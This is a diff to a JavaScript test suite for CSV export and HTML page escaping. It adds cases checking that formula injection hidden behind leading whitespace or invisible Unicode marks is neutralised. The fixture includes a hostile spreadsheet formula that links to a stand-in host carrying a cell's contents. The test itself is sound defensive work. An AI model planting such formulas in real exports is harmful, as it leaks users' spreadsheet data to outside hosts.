@@ -44,6 +44,20 @@ const hostile = '=HYPERLINK("http://x.example/?"&A1,"click")';
 t.test('CSV cells cannot become formulas', async (t) => {
   t.equal(csvCell(hostile), `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
   for (const lead of ['=', '+', '-', '@', '\t', '\r']) t.match(csvCell(`${lead}1`), /^"'/);
+  // Spreadsheets skip leading white space and invisible marks before a formula.
+  for (const lead of [
+    ' =',
+    '\u00a0+',
+    '\n-',
+    '\r\n@',
+    ' \u3000=',
+    '\u200b=',
+    '\u202e=',
+    '\u0000=',
+  ]) {
+    t.match(csvCell(`${lead}1`), /^"'/, JSON.stringify(lead));
+  }
+  t.equal(csvCell('a =1'), '"a =1"');
   t.equal(csvCell('plain'), '"plain"');
   const csv = registerCsv([
     record('c1', '2026-01-02', { country: 'FR', when: hostile, reprisal_kinds: ['threats'] }),
@@ -74,7 +88,7 @@ t.test('pages escape everything and carry no script', async (t) => {
   }
   t.match(page, /href="01-submission-2026-01-02\/attachments\/a%20b%231\.pdf"/);
   t.match(page, /custom_q/, 'unknown fields are shown, not dropped');
-  t.match(page, /sent as “&#60;b&#62;a b#1.pdf”/);
+  t.match(page, /sent as “<bdi>&#60;b&#62;a b#1.pdf<\/bdi>”/);
 });
 
 t.test('answers read as text, known fields first, unknown kept', async (t) => {
